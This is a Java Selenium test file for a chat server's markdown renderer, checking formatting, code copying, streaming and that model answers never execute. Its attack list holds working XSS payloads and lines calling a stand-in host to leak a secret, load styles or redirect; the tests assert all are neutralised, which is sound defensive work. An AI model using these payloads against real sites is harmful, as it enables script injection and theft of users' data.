package dev.attune.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.JavascriptException;
import org.openqa.selenium.logging.LogEntry;

/** What a model writes is shown as it meant it, and never run. */
@ExtendWith(BrowserSession.class)
final class WebMarkdownTest {
    private static final String DOCUMENT =
            """
            # Title

            Some **strong**, *slanted* and ~~struck~~ words, `code`, [a link](https://example.org/x) and 1 &lt; 2.

            1. one
            2. two
               - inner

            - [x] done
            - [ ] to do

            | name | count |
            |------|------:|
            | a    |   1   |

            > said

            ```js
            const answer = "42"; // sure
            ```
            """;

    /** Each wants {@code window.pwned}, a request to elsewhere, or an element it could act with. */
    private static final List<String> ATTACKS = List.of(
            "<script>window.pwned = 1</script>",
            "<img src=x onerror=\"window.pwned=1\">",
            "<svg onload=\"window.pwned=1\"><script>window.pwned=1</script></svg>",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
            "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
            "<details open ontoggle=\"window.pwned=1\"><summary>x</summary></details>",
            "<input autofocus onfocus=\"window.pwned=1\">",
            "<a href=\"javascript:window.pwned=1\">click</a>",
            "[click](javascript:window.pwned=1)",
            "[click](JaVaScRiPt:window.pwned=1)",
            "[click](java\tscript:window.pwned=1)",
            "[click](&#106;avascript:window.pwned=1)",
            "[click](data:text/html,<script>window.pwned=1</script>)",
            "[click](vbscript:window.pwned=1)",
            "<javascript:window.pwned=1>",
            "![x](https://attacker.invalid/leak.png?secret)",
            "![x](x\"onerror=\"window.pwned=1)",
            "[x](https://a.invalid/\"onmouseover=\"window.pwned=1)",
            "[x]: javascript:window.pwned=1\n\n[x]",
            "```\"><img src=x onerror=window.pwned=1>\ncode\n```",
            "```html\n<script>window.pwned=1</script>\n```",
            "`<img src=x onerror=window.pwned=1>`",
            "| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |",
            "<style>body{display:none}</style>",
            "<link rel=stylesheet href=https://attacker.invalid/a.css>",
            "<base href=https://attacker.invalid/>",
            "<meta http-equiv=refresh content=\"0;url=https://attacker.invalid/\">",
            "<form action=https://attacker.invalid/><button>send</button></form>",
            "<object data=\"data:text/html,<script>parent.pwned=1</script>\"></object>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
            "<think><img src=x onerror=window.pwned=1></think>spoken",
            "<div id=turns></div><a id=chat name=document>clobber</a>");

    private static RunningServer server;
    private ChatPage page;

    @BeforeAll
    static void start() {
        server = RunningServer.start();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @BeforeEach
    void open(Browser browser) {
        page = ChatPage.ready(browser, server.url());
    }

    @Test
    void markdownBecomesWhatItMeans() {
        page.ask(DOCUMENT);
        assertThat(page.text(".assistant .heading-1")).isEqualTo("Title");
        assertThat(page.texts(".assistant :is(strong, em, del, p > code)"))
                .containsExactly("strong", "slanted", "struck", "code");
        assertThat(page.text(".assistant p")).endsWith("1 < 2.");
        assertThat(page.texts(".assistant ol li li")).containsExactly("inner");
        assertThat(page.all(".assistant .task input:checked:disabled")).hasSize(1);
        assertThat(page.texts(".assistant :is(th, td)")).containsExactly("name", "count", "a", "1");
        assertThat(page.the(".assistant td:last-child").getCssValue("text-align"))
                .isEqualTo("right");
        assertThat(page.text(".assistant blockquote")).isEqualTo("said");
        var link = page.the(".assistant a");
        assertThat(link.getDomAttribute("href")).isEqualTo("https://example.org/x");
        assertThat(link.getDomAttribute("target")).isEqualTo("_blank");
        assertThat(link.getDomAttribute("rel")).contains("noopener", "noreferrer");
    }

    @Test
    void codeHasItsLanguageItsColoursAndAButtonThatCopiesIt(Browser browser) {
        page.ask(DOCUMENT);
        assertThat(page.text(".code figcaption span")).isEqualTo("js");
        page.until(() -> page.texts(".code .hl-keyword").equals(List.of("const")));
        assertThat(page.text(".code .hl-comment")).isEqualTo("// sure");
        page.the(".code [aria-label='Copy code']").click();
        page.until(() -> page.is(".code [aria-label='Copied']"));
        assertThat(browser.clipboard()).isEqualTo("const answer = \"42\"; // sure");
    }

    @Test
    void anAnswerIsCopiedAsItsMarkdownWithoutItsThoughts(Browser browser) {
        page.ask("<think>Hm.</think>**Yes**");
        assertThat(page.text(".turn:last-child .words")).isEqualTo("Yes");
        assertThat(page.text(".turn:last-child .thought summary")).isEqualTo("Thoughts");
        page.act("copy");
        page.until(() -> page.text(".turn:last-child .said").equals("Copied"));
        assertThat(browser.clipboard()).isEqualTo("**Yes**");
    }

    @Test
    void whatStreamsInPiecesLooksLikeWhatComesWhole() {
        for (int cut = 1; cut < DOCUMENT.length(); cut += 23) {
            server.generator().holdAt(cut);
            page.send(DOCUMENT);
            page.until(() -> server.generator().inFlight() == 1);
            server.generator().release();
            page.untilIdle();
        }
        page.until(() -> page.is(".turn:last-child .hl-keyword"));
        assertThat(
                        page.run(
                                """
                        const answers = [...document.querySelectorAll('.turn.assistant .words')].map(words => words.innerHTML);
                        return new Set(answers).size;
                        """))
                .isEqualTo(1L);
    }

    @Test
    void nothingInAnAnswerIsEverRun(Browser browser) {
        ATTACKS.forEach(page::ask);
        page.ask(String.join("\n\n", ATTACKS));
        page.all("#turns a")
                .forEach(link -> assertThat(link.getDomProperty("protocol")).isIn("https:", "mailto:"));
        assertThat(page.run("return window.pwned ?? null")).isNull();
        assertThat(
                        page.all(
                                "#turns :is(script, img, iframe, object, embed, form:not(.edit), style, link, base, meta, math)"))
                .isEmpty();
        assertThat(page.all("#turns svg:not(.icon)")).isEmpty();
        assertThat(
                        page.run(
                                """
                        return [...document.querySelectorAll('*')]
                          .flatMap(element => [...element.attributes])
                          .filter(({ name }) => name.startsWith('on') || name === 'style').length;
                        """))
                .isEqualTo(0L);
        assertThat(
                        page.run(
                                """
                        return performance.getEntriesByType('resource')
                          .filter(({ name }) => new URL(name).origin !== location.origin).length;
                        """))
                .isEqualTo(0L);
        assertThat(browser.driver().manage().logs().get("browser").getAll().stream()
                        .map(LogEntry::getMessage))
                .noneMatch(message -> message.contains("attacker.invalid"));
    }

    @Test
    void thePolicyHoldsAgainstOurOwnMistakesToo() {
        for (String mistake : List.of(
                "document.body.innerHTML = '<b>x</b>'",
                "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
                "document.createElement('script').src = 'https://attacker.invalid/'",
                "trustedTypes.createPolicy('mine', { createHTML: text => text })")) {
            assertThatThrownBy(() -> page.run(mistake)).as(mistake).isInstanceOf(JavascriptException.class);
        }
    }

    @Test
    void aNameIsNoMarkupEither() {
        page.ask("<img src=x onerror=window.pwned=1>");
        assertThat(page.titles()).contains("<img src=x onerror=window.pwned=1>");
        assertThat(page.run("return window.pwned ?? null")).isNull();
    }
}
